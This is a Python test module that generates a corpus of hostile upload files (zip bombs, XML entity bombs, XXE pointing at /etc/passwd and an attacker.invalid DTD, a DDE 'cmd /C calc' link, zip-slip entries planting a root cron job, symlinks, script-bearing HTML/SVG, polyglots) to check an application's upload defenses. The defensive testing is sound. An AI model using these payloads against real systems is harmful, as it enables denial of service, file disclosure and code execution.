"""The hostile file corpus: every file is built here, in memory, when a test asks for it (bombs included),
so nothing large is committed. Each entry names the file as a participant would upload it, how to build
its bytes, and the words of the refusal the participant must read.

Classes: archive bombs (deflated zeros, nested, many entries, overlapping entries, headers that lie);
XML bombs and external entities inside XLSX; workbooks with external links and DDE; archives whose entry
names climb out of any folder or are symbolic links; executables, HTML and SVG named as documents and
images; polyglots (a PDF or image that is also a ZIP); truncated and malformed PDF and XLSX.
"""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import openpyxl

MB = 1024 * 1024

# Messages (fragments) of the evidence checks, as the participant reads them.
NOT_A = "is not a {kind} file, although its name says so"
UNSAFE_PATH = "contains an entry with an unsafe path"
LINK = "contains a symbolic link"
TOO_BIG_UNPACKED = "unpacks to more than"
TOO_MANY = "entries; the most allowed is"
DAMAGED = "is damaged or uses an unsupported format"
XML_NOT_ALLOWED = "contains XML that is not allowed in an Office document"
EXTERNAL = "links to other files or programs"
NESTED = "archives nested more than"
WEB_PAGE = "looks like a web page or script"
POLYGLOT = "also holds a ZIP archive"
PDF_DAMAGED = "is not a complete PDF"


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    build: Callable[[], bytes]
    message: str
    rule: str

    def content(self) -> bytes:
        return _built(self.id, self.build)


_CACHE: dict[str, bytes] = {}


def _built(key: str, build: Callable[[], bytes]) -> bytes:
    if key not in _CACHE:
        _CACHE[key] = build()
    return _CACHE[key]


# --- building blocks -------------------------------------------------------------------------------


def zip_of(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression, compresslevel=9) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zeros_entry(name: str, size: int) -> tuple[zipfile.ZipInfo, bytes]:
    """A deflated entry of `size` zero bytes, compressed once (about 1000:1) without holding `size` bytes."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    block = bytes(MB)
    parts, crc, left = [], 0, size
    while left:
        piece = block[: min(left, MB)]
        parts.append(compressor.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    parts.append(compressor.flush())
    data = b"".join(parts)
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.file_size, info.compress_size, info.CRC = size, len(data), crc
    return info, data


def raw_zip(entries: list[tuple[zipfile.ZipInfo, bytes]], *, lie_about_size: int | None = None) -> bytes:
    """An archive written by hand from pre-compressed entries; with `lie_about_size`, every header
    declares that many unpacked bytes instead of the truth."""
    out = io.BytesIO()
    central = []
    for info, data in entries:
        offset = out.tell()
        name = info.filename.encode()
        size = info.file_size if lie_about_size is None else lie_about_size
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, 0, info.compress_type, 0, 0x21, info.CRC, len(data), size, len(name), 0
            )
        )
        out.write(name)
        out.write(data)
        central.append(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                0x031E,
                20,
                0,
                info.compress_type,
                0,
                0x21,
                info.CRC,
                len(data),
                size,
                len(name),
                0,
                0,
                0,
                0,
                info.external_attr,
                offset,
            )
            + name
        )
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def overlapping_zip(copies: int, size: int) -> bytes:
    """Fifield-style: many central-directory entries share one compressed stream, so the archive unpacks
    to `copies` × `size` from the bytes of one."""
    info, data = zeros_entry("a", size)
    out = io.BytesIO()
    out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, info.CRC, len(data), size, 1, 0) + b"a")
    out.write(data)
    start = out.tell()
    for _ in range(copies):
        out.write(
            struct.pack(
                "<4s6H3L5H2L", b"PK\x01\x02", 0x031E, 20, 0, 8, 0, 0x21, info.CRC, len(data), size, 1, 0, 0, 0, 0, 0, 0
            )
            + b"a"
        )
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, out.tell() - start, start, 0))
    return out.getvalue()


@cache
def xlsx_parts() -> dict[str, bytes]:
    """The parts of a small, honest workbook (sheet "RTTM"), to be tampered with."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "RTTM"
    sheet.append(["Requirement", "Test case"])
    sheet.append(["FR-001", "QT-0001"])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def xlsx_with(replace: dict[str, bytes] | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    parts = {**xlsx_parts(), **(replace or {})}
    parts.update(extra or {})
    return zip_of(parts)


def honest_xlsx() -> bytes:
    return xlsx_with()


SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"


def _entity_sheet(doctype: str, value: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"{doctype}\n"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{value}</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


def billion_laughs() -> bytes:
    lines = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    doctype = "<!DOCTYPE worksheet [" + "".join(lines) + "]>"
    return xlsx_with({SHEET: _entity_sheet(doctype, "&lol9;")})


def quadratic_blowup() -> bytes:
    doctype = f'<!DOCTYPE worksheet [<!ENTITY a "{"x" * 50_000}">]>'
    return xlsx_with({SHEET: _entity_sheet(doctype, "&a;" * 50_000)})


def external_entity() -> bytes:
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return xlsx_with({SHEET: _entity_sheet(doctype, "&xxe;")})


def external_parameter_entity() -> bytes:
    doctype = '<!DOCTYPE worksheet [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>'
    return xlsx_with({STRINGS: _entity_sheet(doctype, "x")})


def external_link() -> bytes:
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/>'
        b"</ddeItems></ddeLink></externalLink>"
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/externalLinkPath" Target="\\\\attacker.invalid\\share\\book.xlsx" '
        b'TargetMode="External"/></Relationships>'
    )
    return xlsx_with(
        extra={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels}
    )


def xlsx_with_traversal_entry() -> bytes:
    return xlsx_with(extra={"../../../../tmp/evil.sh": b"#!/bin/sh\necho owned\n"})


def _symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    info.create_system = 3
    return info


def zip_with_symlink(base: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in base.items():
            archive.writestr(name, data)
        archive.writestr(_symlink_info("logs/passwd"), "/etc/passwd")
    return buffer.getvalue()


def nested_bomb(depth: int = 3, width: int = 4, leaf: int = 60 * MB) -> bytes:
    """42.zip in miniature: archives of archives, each leaf a bomb of its own."""
    info, data = zeros_entry("leaf.bin", leaf)
    level = raw_zip([(info, data)])
    for d in range(depth):
        level = zip_of({f"layer{d}-{i}.zip": level for i in range(width)}, compression=zipfile.ZIP_STORED)
    return level


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(200)
    + b"This program cannot be run in DOS mode"
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me/tokens',{method:'POST'})</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>alert(1)</script></svg>"
)
SMALL_ZIP_TAIL = zip_of({"payload.html": HTML})


def pdf(pages: int = 40) -> bytes:
    """A plausible PDF of a few kilobytes with its trailer."""
    body = b"".join(
        b"%d 0 obj\n<< /Type /Page /Contents (%s) >>\nendobj\n" % (i + 1, b"evidence " * 20) for i in range(pages)
    )
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"xref\n0 1\ntrailer\n<< /Size 1 >>\nstartxref\n9\n%%EOF\n"


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64) + b"\xff\xd9"


def _bomb_zeros() -> bytes:
    return raw_zip([zeros_entry("zeros.bin", 300 * MB)])


def _bomb_liar() -> bytes:
    # 50 MB of zeros whose headers claim 1 KB: reading stops at what they declare and the check sum fails.
    return raw_zip([zeros_entry("small.txt", 50 * MB)], lie_about_size=1024)


def _many_entries() -> bytes:
    return zip_of({f"run-{i:04d}.log": b"" for i in range(1001)}, compression=zipfile.ZIP_STORED)


def _xlsx_bomb() -> bytes:
    info, data = zeros_entry(STRINGS, 300 * MB)
    parts = [(zipfile.ZipInfo(name), body) for name, body in xlsx_parts().items() if name != STRINGS]
    stored = []
    for info_, body in parts:
        info_.compress_type = zipfile.ZIP_STORED
        info_.file_size = info_.compress_size = len(body)
        info_.CRC = zlib.crc32(body)
        stored.append((info_, body))
    return raw_zip([*stored, (info, data)])


CORPUS: list[Hostile] = [
    # Archive bombs (ASVS 5.2.3).
    Hostile("zip-bomb-zeros", "logs.zip", _bomb_zeros, TOO_BIG_UNPACKED, "archive_size"),
    Hostile("zip-bomb-lying-headers", "logs.zip", _bomb_liar, DAMAGED, "type"),
    Hostile("zip-bomb-nested", "results.zip", nested_bomb, NESTED, "archive_nesting"),
    Hostile("zip-many-entries", "runs.zip", _many_entries, TOO_MANY, "archive_entries"),
    Hostile(
        "zip-overlapping-entries", "runs.zip", lambda: overlapping_zip(8, 40 * MB), TOO_BIG_UNPACKED, "archive_size"
    ),
    Hostile("xlsx-bomb-shared-strings", "RTTM.xlsx", _xlsx_bomb, TOO_BIG_UNPACKED, "archive_size"),
    # XML inside XLSX (ASVS 1.5.1).
    Hostile("xlsx-billion-laughs", "RTTM.xlsx", billion_laughs, XML_NOT_ALLOWED, "xml"),
    Hostile("xlsx-quadratic-blowup", "RTTM.xlsx", quadratic_blowup, XML_NOT_ALLOWED, "xml"),
    Hostile("xlsx-external-entity", "RTTM.xlsx", external_entity, XML_NOT_ALLOWED, "xml"),
    Hostile("xlsx-external-parameter-entity", "RTTM.xlsx", external_parameter_entity, XML_NOT_ALLOWED, "xml"),
    Hostile("xlsx-external-link-dde", "RTTM.xlsx", external_link, EXTERNAL, "external_link"),
    # Entry names that climb out, and links (ASVS 5.3.3, 5.2.5).
    Hostile(
        "zip-slip-relative",
        "logs.zip",
        lambda: zip_of({"../../etc/cron.d/evil": b"* * * * * root sh"}),
        UNSAFE_PATH,
        "archive_path",
    ),
    Hostile(
        "zip-slip-absolute", "logs.zip", lambda: zip_of({"/etc/passwd": b"root:x:0:0"}), UNSAFE_PATH, "archive_path"
    ),
    Hostile(
        "zip-slip-windows",
        "logs.zip",
        lambda: zip_of({"..\\..\\windows\\win.ini": b"[x]"}),
        UNSAFE_PATH,
        "archive_path",
    ),
    Hostile("xlsx-slip-entry", "RTTM.xlsx", xlsx_with_traversal_entry, UNSAFE_PATH, "archive_path"),
    Hostile("zip-symlink", "logs.zip", lambda: zip_with_symlink({"logs/run.txt": b"passed"}), LINK, "archive_link"),
    Hostile("xlsx-symlink", "RTTM.xlsx", lambda: zip_with_symlink(xlsx_parts()), LINK, "archive_link"),
    # Content that is not what its name says (ASVS 5.2.2).
    Hostile("elf-as-pdf", "report.pdf", lambda: ELF, NOT_A.format(kind="PDF"), "type"),
    Hostile("exe-as-pdf", "report.pdf", lambda: MZ, NOT_A.format(kind="PDF"), "type"),
    Hostile("exe-as-xlsx", "RTTM.xlsx", lambda: MZ, NOT_A.format(kind="XLSX"), "type"),
    Hostile("html-as-pdf", "report.pdf", lambda: HTML, NOT_A.format(kind="PDF"), "type"),
    Hostile("svg-as-png", "screenshot.png", lambda: SVG, NOT_A.format(kind="PNG"), "type"),
    Hostile("html-as-txt", "notes.txt", lambda: HTML, WEB_PAGE, "markup"),
    Hostile("svg-as-txt", "notes.txt", lambda: SVG, WEB_PAGE, "markup"),
    Hostile("html-as-csv", "results.csv", lambda: b"  \n<script>alert(1)</script>,x\n", WEB_PAGE, "markup"),
    Hostile(
        "zip-as-xlsx", "RTTM.xlsx", lambda: zip_of({"readme.txt": b"not a workbook"}), NOT_A.format(kind="XLSX"), "type"
    ),
    # Polyglots.
    Hostile("polyglot-pdf-zip", "report.pdf", lambda: pdf() + SMALL_ZIP_TAIL, POLYGLOT, "polyglot"),
    Hostile("polyglot-jpeg-zip", "photo.jpg", lambda: JPEG + SMALL_ZIP_TAIL, POLYGLOT, "polyglot"),
    Hostile("polyglot-png-zip", "screenshot.png", lambda: png() + SMALL_ZIP_TAIL, POLYGLOT, "polyglot"),
    # Truncated and malformed.
    Hostile("pdf-truncated", "report.pdf", lambda: pdf()[: len(pdf()) // 2], PDF_DAMAGED, "pdf"),
    Hostile("pdf-malformed-header", "report.pdf", lambda: b"%PDF-\x00\x01garbage" + bytes(2000), PDF_DAMAGED, "pdf"),
    Hostile(
        "xlsx-truncated",
        "RTTM.xlsx",
        lambda: honest_xlsx()[: len(honest_xlsx()) // 2],
        NOT_A.format(kind="XLSX"),
        "type",
    ),
    Hostile("zip-encrypted-flag", "logs.zip", lambda: _encrypted_zip(), "is encrypted", "type"),
]


def _encrypted_zip() -> bytes:
    data = bytearray(zip_of({"secret.txt": b"x" * 100}))
    # Set the "encrypted" flag in the local and central headers.
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        data[at + flag_offset] |= 0x01
    return bytes(data)


BY_ID = {entry.id: entry for entry in CORPUS}
assert len(BY_ID) == len(CORPUS)

# Good files that the new checks must keep accepting.
GOOD: dict[str, Callable[[], bytes]] = {
    "report.pdf": pdf,
    "screenshot.png": png,
    "photo.jpg": lambda: JPEG,
    "RTTM.xlsx": honest_xlsx,
    "notes.txt": lambda: b"Run 3 passed. Compare <expected> with <actual> values.\n",
    "results.csv": lambda: b"id,result\n1,<passed>\n",
    "logs.zip": lambda: zip_of({"logs/run-1.txt": b"passed", "logs/nested.zip": zip_of({"a.txt": b"ok"})}),
}
